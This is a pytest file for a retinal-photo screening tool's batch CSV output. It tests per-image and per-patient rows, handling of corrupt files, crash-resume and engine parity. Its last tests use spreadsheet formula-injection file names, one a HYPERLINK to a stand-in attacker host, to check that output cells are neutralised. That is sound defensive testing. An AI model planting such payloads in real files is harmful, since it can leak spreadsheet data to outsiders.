"""Batch screening: CSV rows, patient summary, bad files, crash + resume, Ray == local."""

from __future__ import annotations

import csv
import shutil

import pytest

from retinascreen.cli import main
from retinascreen.data.csvcells import plain_cell, safe_cell
from retinascreen.serving.screening import COLUMNS, patient_and_eye, screen
from tests.helpers.models import make_model, save_model, write_bad_files, write_face, write_photos


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    root = tmp_path_factory.mktemp("screen")
    model = save_model(make_model(seed=5), root / "tiny.keras")
    folder = root / "clinic"
    photos = write_photos(root / "drawn", 8)
    names = [
        "10_left.png",
        "10_right.png",
        "p7/left.png",
        "p7/right.png",
        "p8/left/a.png",
        "p8/right/b.png",
        "nested/deep/x.png",
        "solo.png",
    ]
    for src, name in zip(photos, names, strict=True):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(src, folder / name)
    write_face(folder / "p9" / "left.png")
    bad = write_bad_files(root / "bad")
    shutil.copy(bad["zero"], folder / "p7" / "zero.png")
    shutil.copy(bad["truncated"], folder / "11_left.png")
    (folder / "notes.txt").write_text("not an image, not listed")
    return {"root": root, "model": model, "folder": folder, "n": 11}


def _rows(path):
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def reference(data):
    out = data["root"] / "reference.csv"
    screen(data["folder"], out, model=data["model"], batch_size=4, progress=False)
    return _rows(out)


def test_patient_and_eye_from_names_and_folders():
    assert patient_and_eye("10_left.jpeg") == ("10", "left")
    assert patient_and_eye("sub/123_RIGHT.png") == ("123", "right")
    assert patient_and_eye("p7/left.png") == ("p7", "left")
    assert patient_and_eye("p8/right/b.png") == ("p8", "right")
    assert patient_and_eye("p8/img.png") == ("p8", "")
    assert patient_and_eye("scan.png") == ("scan", "")


def test_one_sorted_row_per_image_with_errors_in_their_rows(data, reference):
    assert [r["path"] for r in reference] == sorted(r["path"] for r in reference)
    assert len(reference) == data["n"]
    assert list(reference[0]) == list(COLUMNS)
    by_path = {r["path"]: r for r in reference}
    assert by_path["p7/zero.png"]["error"] and by_path["p7/zero.png"]["grade"] == ""
    assert "truncated" in by_path["11_left.png"]["error"].lower()
    face = by_path["p9/left.png"]  # not a fundus: refused in its row, as everywhere else
    assert "does not look like a fundus photograph" in face["error"] and face["grade"] == ""
    good = by_path["10_left.png"]
    assert (good["patient"], good["eye"], good["gradable"], good["error"]) == (
        "10",
        "left",
        "true",
        "",
    )
    assert sum(float(good[f"p{g}"]) for g in range(5)) == pytest.approx(1.0, abs=1e-4)
    assert good["referable"] == ("true" if int(good["grade"]) >= 2 else "false")


def test_patient_summary(data, reference):
    patients = {r["patient"]: r for r in _rows(data["root"] / "reference.patients.csv")}
    assert patients["p9"]["status"] == "ungradable"  # the face: no gradable eye
    assert patients["11"]["status"] == "ungradable"  # only a truncated file
    ten = [r for r in reference if r["patient"] == "10"]
    expected = "referable" if any(r["referable"] == "true" for r in ten) else "not referable"
    assert patients["10"]["status"] == expected and patients["10"]["images"] == "2"
    assert patients["p7"]["gradable_images"] == "2" and patients["p7"]["images"] == "3"


def test_crash_then_resume_gives_each_image_once(data, reference, tmp_path):
    out = tmp_path / "results.csv"

    def crash(written: int) -> None:
        raise RuntimeError("simulated crash after the first batch")

    with pytest.raises(RuntimeError, match="simulated crash"):
        screen(
            data["folder"], out, model=data["model"], batch_size=4, progress=False, on_batch=crash
        )
    assert len(_rows(out)) == 4  # the first batch is safely on disk
    summary = screen(
        data["folder"], out, model=data["model"], batch_size=4, progress=False, resume=True
    )
    assert (summary.done_before, summary.processed) == (4, data["n"] - 4)
    _assert_same(_rows(out), reference)


def test_resume_drops_a_half_written_line(data, reference, tmp_path):
    out = tmp_path / "results.csv"
    text = (data["root"] / "reference.csv").read_text()
    lines = text.splitlines(keepends=True)
    out.write_text("".join(lines[:4]) + lines[4][: len(lines[4]) // 2])  # header + 3 rows + half
    status = main(
        [
            "screen",
            str(data["folder"]),
            "--model",
            str(data["model"]),
            "--out",
            str(out),
            "--resume",
            "--batch-size",
            "4",
        ]
    )
    assert status == 0
    _assert_same(_rows(out), reference)


def test_ray_engine_writes_the_same_csv(data, tmp_path):
    ray = pytest.importorskip("ray")
    ray.init(num_cpus=2, include_dashboard=False, log_to_driver=False)
    try:
        out = tmp_path / "ray.csv"
        screen(
            data["folder"],
            out,
            model=data["model"],
            batch_size=4,
            engine="ray",
            concurrency=1,
            progress=False,
        )
    finally:
        ray.shutdown()
    local = tmp_path / "local.csv"
    screen(data["folder"], local, model=data["model"], batch_size=4, progress=False)
    assert out.read_text() == local.read_text()
    assert (tmp_path / "ray.patients.csv").read_text() == (
        tmp_path / "local.patients.csv"
    ).read_text()


def _assert_same(rows, reference):
    assert [r["path"] for r in rows] == [r["path"] for r in reference]
    for a, b in zip(rows, reference, strict=True):
        assert (
            a["grade"] == b["grade"] and a["error"] == b["error"] and a["gradable"] == b["gradable"]
        )
        for g in range(5):
            if b[f"p{g}"]:
                assert float(a[f"p{g}"]) == pytest.approx(float(b[f"p{g}"]), abs=1e-5)


FORMULA_NAMES = [
    '=HYPERLINK("evil.example?"&A1;"open").png',
    "@SUM(1+1)cmd.png",
    "+1+1.png",
    "-2+3_left.png",
    "'=quoted.png",
]


def test_file_names_a_spreadsheet_would_run_are_text_in_both_csvs(data, tmp_path):
    folder = tmp_path / "hostile"
    folder.mkdir()
    for src, name in zip(write_photos(tmp_path / "drawn", 5), FORMULA_NAMES, strict=True):
        shutil.copy(src, folder / name)
    out = tmp_path / "results.csv"
    screen(folder, out, model=data["model"], batch_size=2, progress=False)
    for written in (out, tmp_path / "results.patients.csv"):
        with open(written, newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        running = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert running == [], f"{written.name} has cells a spreadsheet would execute"
    raw = {r["path"] for r in _rows(out)}
    assert "'" + FORMULA_NAMES[0] in raw  # shown as text, not dropped or mangled
    # The product reads its own CSV back exactly: a resume finds every file done.
    summary = screen(folder, out, model=data["model"], batch_size=2, progress=False, resume=True)
    assert (summary.done_before, summary.processed) == (5, 0)
    with open(out, newline="") as f:
        assert sorted(plain_cell(r["path"]) for r in csv.DictReader(f)) == sorted(FORMULA_NAMES)


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "''", "'", "plain", "", "a=b"]
)
def test_safe_cell_round_trip(text):
    written = safe_cell(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert plain_cell(written) == text
